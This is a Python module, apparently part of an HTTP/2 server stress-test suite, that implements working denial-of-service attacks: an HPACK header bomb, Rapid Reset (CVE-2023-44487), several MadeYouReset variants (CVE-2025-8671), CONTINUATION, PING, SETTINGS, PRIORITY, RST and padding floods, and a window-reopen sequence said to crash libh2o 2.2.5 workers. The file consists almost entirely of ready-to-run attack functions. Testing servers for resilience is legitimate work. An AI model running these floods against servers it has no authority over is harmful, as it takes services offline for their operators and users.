"""HTTP/2 floods and bombs. The defaults are what the server must survive."""

import struct
import time

from .wire import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
                   PADDED, PING, PRIORITY, SETTINGS, Wire, frame, literal, rst, settings, window_update)

CHUNK_FRAMES = 1000


def _pour(wire, make, count, seconds=30.0):
    """Send frames make(0..count-1) in large writes until done, closed, or out of time."""
    wire.keep = False
    end = time.monotonic() + seconds
    for at in range(0, count, CHUNK_FRAMES):
        left = end - time.monotonic()
        chunk = b"".join(make(i) for i in range(at, min(at + CHUNK_FRAMES, count)))
        if left <= 0 or not wire.send(chunk, deadline_s=left):
            return


def _same(wire, one, count, seconds=30.0):
    """The same bytes again and again: no cost on our side."""
    wire.keep = False
    chunk = one * CHUNK_FRAMES
    end = time.monotonic() + seconds
    for _ in range(0, count, CHUNK_FRAMES):
        left = end - time.monotonic()
        if left <= 0 or not wire.send(chunk, deadline_s=left):
            return


def header_bomb(target, references=300_000, streams=95, seconds=60.0):
    """One dynamic entry, then header blocks of one-byte references to it, on streams left open."""
    wire = Wire(target)
    wire.keep = False
    prime = frame(HEADERS, END_STREAM | END_HEADERS, 1, target.block() + literal("x", "y", indexing=True))
    wire.send(prime)
    block = target.block() + b"\xbe" * references
    end = time.monotonic() + seconds
    for n in range(streams):
        stream = 3 + 2 * n
        parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        frames = [frame(HEADERS if i == 0 else CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, stream, p)
                  for i, p in enumerate(parts)]
        if not wire.send(b"".join(frames), deadline_s=max(0.0, end - time.monotonic())):
            break
    return wire.finish("header_bomb", linger_s=1.0)


def small_header_bomb(target, references=16_000, streams=95):
    """The same within one frame a stream: nothing for a limit on block size to catch."""
    return header_bomb(target, references=references, streams=streams)


def rapid_reset(target, frames=100_000, seconds=30.0, path=None):
    """CVE-2023-44487: open a stream and cancel it at once."""
    wire = Wire(target)
    block = target.block(**({"path": path} if path else {}))
    _pour(wire, lambda i: frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block) + rst(1 + 2 * i),
          frames, seconds)
    return wire.finish("rapid_reset")


def _made_you_reset(target, provoke, frames, name, path=None):
    wire = Wire(target)
    block = target.block(**({"path": path} if path else {}))
    _pour(wire, lambda i: frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block) + provoke(1 + 2 * i), frames)
    return wire.finish(name)


def made_you_reset_zero_window(target, frames=100_000, path=None):
    """CVE-2025-8671: the server resets the stream, because of a WINDOW_UPDATE of 0."""
    return _made_you_reset(target, lambda s: window_update(s, 0), frames, "made_you_reset_zero_window", path)


def made_you_reset_window_overflow(target, frames=100_000, path=None):
    """The same by a window of more than 2^31 - 1."""
    return _made_you_reset(target, lambda s: window_update(s, 0x7FFFFFFF) * 2, frames,
                           "made_you_reset_window_overflow", path)


def made_you_reset_data_after_end(target, frames=100_000, path=None):
    """The same by DATA behind END_STREAM."""
    return _made_you_reset(target, lambda s: frame(DATA, 0, s, b"x" * 100), frames,
                           "made_you_reset_data_after_end", path)


def continuation_flood(target, frames=200_000):
    """A header block that never ends, in frames of 100 bytes."""
    wire = Wire(target)
    wire.send(frame(HEADERS, END_STREAM, 1, target.block()))
    _same(wire, frame(CONTINUATION, 0, 1, literal("a", "b" * 94)), frames)
    return wire.finish("continuation_flood")


def empty_continuation_flood(target, frames=1_000_000):
    """The same in empty frames, which no limit on bytes will notice."""
    wire = Wire(target)
    wire.send(frame(HEADERS, END_STREAM, 1, target.block()))
    _same(wire, frame(CONTINUATION, 0, 1), frames)
    return wire.finish("empty_continuation_flood")


def ping_flood(target, frames=200_000):
    wire = Wire(target)
    _same(wire, frame(PING, 0, 0, b"12345678"), frames)
    return wire.finish("ping_flood")


def settings_flood(target, frames=200_000):
    wire = Wire(target)
    _same(wire, settings((INITIAL_WINDOW_SIZE, 65535)) + settings((INITIAL_WINDOW_SIZE, 65536)), frames // 2)
    return wire.finish("settings_flood")


def empty_settings_flood(target, frames=200_000):
    wire = Wire(target)
    _same(wire, frame(SETTINGS), frames)
    return wire.finish("empty_settings_flood")


def settings_ack_flood(target, frames=200_000):
    wire = Wire(target)
    _same(wire, frame(SETTINGS, ACK), frames)
    return wire.finish("settings_ack_flood")


def priority_flood(target, frames=200_000):
    wire = Wire(target)
    _pour(wire, lambda i: frame(PRIORITY, 0, 1 + 2 * (i % 8), struct.pack(">IB", 0, i % 256)), frames)
    return wire.finish("priority_flood")


def empty_data_flood(target, frames=200_000):
    """DATA of no bytes on a stream whose body never ends."""
    wire = Wire(target)
    wire.send(target.request(1, END_HEADERS, method="POST"))
    _same(wire, frame(DATA, 0, 1), frames)
    return wire.finish("empty_data_flood")


def padding_flood(target, frames=200_000):
    """DATA that is nothing but padding: it uses up windows, but carries nothing."""
    wire = Wire(target)
    wire.send(target.request(1, END_HEADERS, method="POST"))
    _same(wire, frame(DATA, PADDED, 1, b"\x07" + bytes(7)), frames)
    return wire.finish("padding_flood")


def unknown_frame_flood(target, frames=200_000):
    wire = Wire(target)
    _same(wire, frame(0xBA, 0, 0, b"grease"), frames)
    return wire.finish("unknown_frame_flood")


def window_update_flood(target, frames=200_000):
    wire = Wire(target)
    _same(wire, window_update(0, 1), frames)
    return wire.finish("window_update_flood")


def rst_flood(target, frames=200_000):
    """RST_STREAM for a stream long closed."""
    wire = Wire(target)
    wire.send(target.request(1))
    wire.listen(2.0, lambda w: w.has(DATA, 1))
    _same(wire, rst(1, CANCEL), frames)
    return wire.finish("rst_flood")


def window_reopen(target, body_bytes=13, streams=10, pings=20_000, path=None):
    """Answers that use up their stream's window exactly, stuck behind a heap of PING answers in a
    socket that nobody reads, and whose window is then opened again: libh2o 2.2.5 asserts that this
    cannot happen, and the worker is gone."""
    wire = Wire(target, first=settings((INITIAL_WINDOW_SIZE, body_bytes)), receive_buffer=4096, segment=536)
    wire.keep = False
    block = target.block(**({"path": path} if path else {}))
    ids = range(1, 1 + 2 * streams, 2)
    wire.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, block) for s in ids) +
              frame(PING, 0, 0, b"12345678") * pings, read=False, deadline_s=2.0)
    time.sleep(0.3)
    wire.send(b"".join(window_update(s, 1) for s in ids), read=False, deadline_s=2.0)
    return wire.finish("window_reopen", linger_s=1.0)


ALL = [small_header_bomb, header_bomb, rapid_reset, made_you_reset_zero_window, made_you_reset_window_overflow,
       made_you_reset_data_after_end, continuation_flood, empty_continuation_flood, ping_flood, settings_flood,
       empty_settings_flood, settings_ack_flood, priority_flood, empty_data_flood, padding_flood,
       unknown_frame_flood, window_update_flood, rst_flood]
